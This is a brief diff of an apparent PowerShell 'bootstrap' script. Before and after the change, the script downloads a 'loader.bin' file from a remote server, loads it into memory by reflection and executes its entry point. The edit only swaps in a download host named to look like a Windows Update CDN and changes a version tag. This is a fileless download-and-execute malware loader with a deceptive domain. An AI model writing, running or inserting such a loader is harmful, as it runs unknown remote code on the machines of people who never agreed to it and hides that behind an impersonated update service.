@@ -1,4 +1,4 @@
-# bootstrap 4289 v3
-$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
+# bootstrap 2172 v3
+$b = (New-Object Net.WebClient).DownloadData('http://dl.winupdate-cdn.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
